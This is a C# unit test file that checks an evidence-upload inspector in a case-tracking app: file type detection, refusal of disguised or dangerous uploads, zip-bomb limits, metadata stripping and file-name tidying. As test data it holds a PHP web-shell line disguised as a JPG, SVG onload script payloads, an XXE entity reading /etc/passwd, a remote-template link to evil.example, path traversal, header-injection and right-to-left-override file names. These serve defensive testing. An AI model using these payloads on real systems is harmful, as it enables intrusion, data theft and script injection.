using System.Text;
using CaseTracker.Domain.Evidence;
using CaseTracker.Web.Tests.Support;

namespace CaseTracker.Web.Tests.Features.Evidence;

/// <summary>What is taken as evidence and what is not, by content; and what is left of a file in the copy for readers.</summary>
public class FileInspectionTests
{
    private const string Secret = "Ruth Okafor";

    public static TheoryData<string, string, byte[]> Taken => new()
    {
        { "jpeg", "IMG_0001.JPG", SampleFiles.Jpeg() },
        { "jpeg", "photo", SampleFiles.Jpeg() },
        { "png", "screen.png", SampleFiles.Png() },
        { "pdf", "letter.pdf", SampleFiles.Pdf() },
        { "docx", "note.docx", SampleFiles.Word() },
        { "text", "note.txt", SampleFiles.Text() },
        { "text", "wide.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("A note – made that evening.")] },
        { "text", "figures.csv", SampleFiles.Text("name,date\n=1+1,2026") },
        { "email", "mail.eml", SampleFiles.Text("Received: from x\r\nFrom: a@b.example\r\nSubject: Hello\r\n\r\nText") },
        { "mp3", "talk.mp3", [.. "ID3"u8, 4, 0, 0, 0, 0, 0, 10, .. new byte[40]] },
        { "m4a", "talk.m4a", [0, 0, 0, 24, .. "ftypM4A "u8, .. new byte[12]] },
        { "wav", "talk.wav", [.. "RIFF"u8, 36, 0, 0, 0, .. "WAVEfmt "u8, .. new byte[28]] },
        { "mp4", "film.mp4", [0, 0, 0, 24, .. "ftypisom"u8, .. new byte[12]] },
    };

    [Theory]
    [MemberData(nameof(Taken))]
    [Asvs("5.2.2")]
    public void A_file_is_known_by_its_content(string kind, string name, byte[] content) => Inspect(content, name).ShouldBe(kind);

    public static TheoryData<string, string, byte[]> Refused => new()
    {
        { "a page", "page.html", SampleFiles.Text("<html><script>alert(1)</script></html>") },
        { "a page named as text", "page.txt", SampleFiles.Text("  <!DOCTYPE html><p>") },
        { "a drawing", "drawing.svg", SampleFiles.Text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>") },
        { "a drawing named as a picture", "drawing.png", SampleFiles.Text("<svg onload='alert(1)'/>") },
        { "a drawing without an ending", "drawing", SampleFiles.Text("<svg onload='alert(1)'/>") },
        { "a program", "setup.exe", [.. "MZ"u8, .. new byte[100]] },
        { "a program named as a PDF", "letter.pdf", [.. "MZ"u8, .. new byte[100]] },
        { "a program whose name ends twice", "letter.pdf.exe", SampleFiles.Pdf() },
        { "a script", "run.sh", SampleFiles.Text("echo hello") },
        { "a script named as text", "run.txt", SampleFiles.Text("#!/bin/sh\necho hello") },
        { "a script of PHP named as a picture", "x.jpg", SampleFiles.Text("<?php system($_GET['c']); ?>") },
        { "a picture named as a PDF", "letter.pdf", SampleFiles.Png() },
        { "a PDF named as a picture", "photo.jpg", SampleFiles.Pdf() },
        { "a zip", "all.zip", SampleFiles.Zip([("a.txt", SampleFiles.Text())]) },
        { "a zip named as a Word document", "note.docx", SampleFiles.Zip([("a.txt", SampleFiles.Text())]) },
        { "a PDF with a zip at its end", "letter.pdf", [.. SampleFiles.Pdf(), .. SampleFiles.Zip([("a.class", SampleFiles.Text())]), .. "%%EOF"u8] },
        { "a picture with a zip at its end", "photo.jpg", [.. SampleFiles.Jpeg(), .. SampleFiles.Zip([("a.class", SampleFiles.Text())])] },
        { "a recording with a PDF in it", "talk.mp3", [.. "ID3"u8, 4, 0, 0, 0, 0, 1, 0, .. SampleFiles.Pdf(), .. new byte[40]] },
        { "a document with something before it", "note.docx", [.. "junk"u8, .. SampleFiles.Word()] },
        { "a document with something after it", "note.docx", [.. SampleFiles.Word(), .. "<script>"u8] },
        { "a document with macros", "note.docx", SampleFiles.Word("x", ("word/vbaProject.bin", [1, 2, 3])) },
        { "a document with a program in it", "note.docx", SampleFiles.Word("x", ("word/embeddings/oleObject1.bin", [.. "MZ"u8])) },
        { "a document with a path out of itself", "note.docx", SampleFiles.Word("x", ("../../etc/passwd", [1])) },
        { "a document whose template is elsewhere", "note.docx", SampleFiles.Word("x", ("word/_rels/settings.xml.rels", SampleFiles.Text("<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/></Relationships>"))) },
        { "a document with an entity", "note.docx", SampleFiles.Word("x", ("word/_rels/x.rels", SampleFiles.Text("<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>"))) },
        { "a photograph of Apple's kind", "photo.heic", [0, 0, 0, 24, .. "ftypheic"u8, .. new byte[12]] },
        { "half a picture", "screen.png", SampleFiles.Png()[..60] },
        { "half a photograph", "photo.jpg", SampleFiles.Jpeg()[..400] },
        { "bytes", "x.txt", [1, 2, 3, 0, 0xFF] },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    [Asvs("5.2.2")]
    public void Everything_else_is_refused(string what, string name, byte[] content) => Should.Throw<FileRefusedException>(() => Inspect(content, name), what);

    [Theory]
    [InlineData(50_000, 50_000)]
    [InlineData(100_000_000, 1)]
    [InlineData(0, 5)]
    [Asvs("5.2.6")]
    public void A_picture_that_says_it_is_huge_is_refused_without_being_unpacked(int width, int height)
    {
        var content = SampleFiles.Png(width: 1, height: 1);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(content.AsSpan(16), width);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(content.AsSpan(20), height);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(content.AsSpan(29), SampleFiles.Crc(content.AsSpan(12, 17)));
        var before = GC.GetAllocatedBytesForCurrentThread();
        Should.Throw<FileRefusedException>(() => Inspect(content, "screen.png")).Message.ShouldContain(width == 0 ? "damaged" : "100 million pixels");
        (GC.GetAllocatedBytesForCurrentThread() - before).ShouldBeLessThan(1024 * 1024);
    }

    [Fact]
    [Asvs("5.2.6")]
    public void So_is_a_photograph()
    {
        var content = SampleFiles.Jpeg();
        var frame = content.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0xC0]);
        content.AsSpan(frame + 5, 4).Fill(0xC3);
        Should.Throw<FileRefusedException>(() => Inspect(content, "photo.jpg")).Message.ShouldContain("100 million pixels");
    }

    [Fact]
    [Asvs("5.2.3")]
    public void A_document_that_unpacks_to_very_much_is_refused_whatever_it_says()
    {
        var before = GC.GetAllocatedBytesForCurrentThread();
        var bomb = SampleFiles.Word("x", ("word/media/huge.emf", new byte[300 * 1024 * 1024]));
        var made = GC.GetAllocatedBytesForCurrentThread();
        bomb.Length.ShouldBeLessThan(1024 * 1024);
        Should.Throw<FileRefusedException>(() => Inspect(bomb, "note.docx")).Message.ShouldContain("unpacks to more");
        (GC.GetAllocatedBytesForCurrentThread() - made).ShouldBeLessThan(8 * 1024 * 1024);
        (made - before).ShouldBeGreaterThan(0);
        // The size in its directory says nothing is there.
        var at = bomb.AsSpan().LastIndexOf("word/media/huge.emf"u8) - 46;
        bomb.AsSpan(at + 24, 4).Clear();
        Should.Throw<FileRefusedException>(() => Inspect(bomb, "note.docx"));
    }

    [Fact]
    [Asvs("5.2.3")]
    public void So_is_one_of_very_many_parts() =>
        Should.Throw<FileRefusedException>(() => Inspect(SampleFiles.Word("x", [.. Enumerable.Range(0, 5_001).Select(i => ($"word/x{i}.xml", Array.Empty<byte>()))]), "note.docx")).Message.ShouldContain("unpacks to more");

    [Theory]
    [InlineData("photo.jpg")]
    [InlineData("screen.png")]
    [InlineData("note.docx")]
    [Asvs("14.2.8")]
    public void The_copy_for_readers_says_nothing_of_who_made_it(string name)
    {
        var content = name switch { "photo.jpg" => SampleFiles.Jpeg(Secret), "screen.png" => SampleFiles.Png(Secret), _ => SampleFiles.Word(Secret) };
        Inflated(content).AsSpan().IndexOf(Encoding.ASCII.GetBytes(Secret)).ShouldBeGreaterThan(0);
        var copy = Clean(content, name);

        Inflated(copy).AsSpan().IndexOf(Encoding.ASCII.GetBytes(Secret)).ShouldBe(-1);
        Inspect(copy, name).ShouldBe(FileKind.All.First(k => k.Endings.Contains(FileNames.EndingOf(name))).Code);
        Clean(copy, name).ShouldBe(copy);
    }

    [Fact]
    public void A_photograph_stays_the_way_up_that_it_was()
    {
        var copy = Clean(SampleFiles.Jpeg(Secret, orientation: 6), "photo.jpg");
        var exif = copy.AsSpan().IndexOf("Exif\0\0"u8);
        copy[exif + 6 + 19].ShouldBe((byte)6);
        Clean(SampleFiles.Jpeg(Secret, orientation: 1), "photo.jpg").AsSpan().IndexOf("Exif"u8).ShouldBe(-1);
    }

    [Fact]
    public async Task A_Word_document_without_its_makers_still_opens_and_says_what_it_said()
    {
        var pages = await Office.PagesAsync(Clean(SampleFiles.Word(Secret), "note.docx"), "docx");
        string.Join(' ', pages).ShouldContain("What was said that evening.");
    }

    [Theory]
    [InlineData("../../etc/passwd", "passwd")]
    [InlineData(@"C:\Users\ruth.okafor\Desktop\note.docx", "note.docx")]
    [InlineData("a\r\nSet-Cookie: x=y.pdf", "aSet-Cookie: x=y.pdf")]
    [InlineData("photo\u202Egpj.exe", "photogpj.exe")]
    [InlineData("\u200B", "file")]
    [InlineData("...", "file")]
    [InlineData(null, "file")]
    [Asvs("5.3.2", "5.4.2")]
    public void A_name_is_only_a_name(string? sent, string kept) => FileNames.Tidy(sent).ShouldBe(kept);

    [Fact]
    public void A_long_name_keeps_its_ending() => FileNames.Tidy(new string('a', 400) + ".pdf").ShouldBe(new string('a', 146) + ".pdf");

    private static string Inspect(byte[] content, string name)
    {
        using var file = new MemoryStream(content);
        return FileInspector.Inspect(file, name).Code;
    }

    private static byte[] Clean(byte[] content, string name)
    {
        using var file = new MemoryStream(content);
        using var copy = new MemoryStream();
        FileInspector.Clean(FileInspector.Inspect(file, name), file, copy);
        return copy.ToArray();
    }

    // What is packed, unpacked.
    private static byte[] Inflated(byte[] content)
    {
        if (!content.AsSpan().StartsWith("PK"u8)) return content;
        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(content));
        using var all = new MemoryStream();
        foreach (var entry in zip.Entries)
        {
            all.Write(Encoding.UTF8.GetBytes(entry.FullName));
            using var part = entry.Open();
            part.CopyTo(all);
        }
        return all.ToArray();
    }
}
